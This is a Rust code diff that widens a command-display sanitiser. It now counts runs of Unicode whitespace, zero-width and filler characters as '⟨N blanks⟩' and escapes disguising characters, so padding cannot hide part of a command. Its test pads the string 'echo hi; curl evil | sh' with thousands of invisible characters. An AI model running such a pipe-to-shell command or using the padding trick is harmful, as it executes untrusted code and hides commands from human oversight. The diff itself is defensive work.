@@ -10,8 +10,9 @@
 
 use std::fmt::Write as _;
 
-/// The longest run of spaces and tabs shown as it is; a longer run is
-/// written as its count (`⟨120 blanks⟩`).
+/// The longest run of blank characters ([`is_blank`]: spaces, tabs,
+/// newlines, other spaces and empty fillers) shown as it is; a longer run
+/// is written as its count (`⟨120 blanks⟩`).
 pub const BLANK_RUN: usize = 8;
 
 /// A command made fit to show: [`ShownCommand::start`], then, when
@@ -49,7 +50,7 @@ pub fn shown(command: &str, max: usize) -> ShownCommand {
     }
 }
 
-/// `command` with runs of more than [`BLANK_RUN`] spaces and tabs, and
+/// `command` with runs of more than [`BLANK_RUN`] blank characters, and
 /// runs of three or more backticks (which would close a code block), written
 /// as counts, and control characters other than newlines, and characters
 /// that disguise text ([`super::disguises`]), written as escapes.
@@ -69,19 +70,46 @@ pub fn marked(command: &str) -> String {
             } else if c != '`' && count > BLANK_RUN {
                 let _ = write!(out, "⟨{count} blanks⟩");
             } else {
-                out.push_str(&run);
+                for c in run.chars() {
+                    push_shown(&mut out, c);
+                }
             }
-        } else if (c.is_control() && c != '\n') || super::disguises(c) {
-            out.extend(c.escape_unicode());
         } else {
-            out.push(c);
+            push_shown(&mut out, c);
         }
     }
     out
 }
 
+/// `c` as shown: control characters (but newlines and tabs) and characters
+/// that disguise text written as escapes.
+fn push_shown(out: &mut String, c: char) {
+    if (c.is_control() && c != '\n' && c != '\t') || super::disguises(c) {
+        out.extend(c.escape_unicode());
+    } else {
+        out.push(c);
+    }
+}
+
+/// Characters that show as nothing or as blank space: whitespace of every
+/// kind (tabs, newlines, no-break and ideographic spaces) and the fillers and
+/// joiners that render empty. A probe padded a command past the cut with
+/// each of them once spaces were counted.
 fn is_blank(c: char) -> bool {
-    c == ' ' || c == '\t'
+    c.is_whitespace()
+        || matches!(
+            c,
+            '\u{34f}'
+                | '\u{115f}'
+                | '\u{1160}'
+                | '\u{200b}'..='\u{200d}'
+                | '\u{2060}'
+                | '\u{2800}'
+                | '\u{3164}'
+                | '\u{fe00}'..='\u{fe0f}'
+                | '\u{feff}'
+                | '\u{ffa0}'
+        )
 }
 
 #[cfg(test)]
@@ -98,6 +126,23 @@ mod tests {
             marked(&format!("a{}b", " ".repeat(BLANK_RUN))),
             format!("a{}b", " ".repeat(BLANK_RUN))
         );
+    }
+
+    #[test]
+    fn every_kind_of_blank_padding_is_counted() {
+        for pad in [
+            '\u{a0}', '\u{2003}', '\u{3000}', '\u{3164}', '\u{2800}', '\u{200d}', '\u{fe0f}', '\n',
+        ] {
+            let padded = format!("echo hi{}; curl evil | sh", pad.to_string().repeat(3000));
+            assert_eq!(
+                marked(&padded),
+                "echo hi⟨3000 blanks⟩; curl evil | sh",
+                "{:?}",
+                pad
+            );
+        }
+        // A mixed run is one run.
+        assert_eq!(marked("a \n\u{a0} \n\u{3000}\t\n\n b"), "a⟨10 blanks⟩b");
     }
 
     #[test]
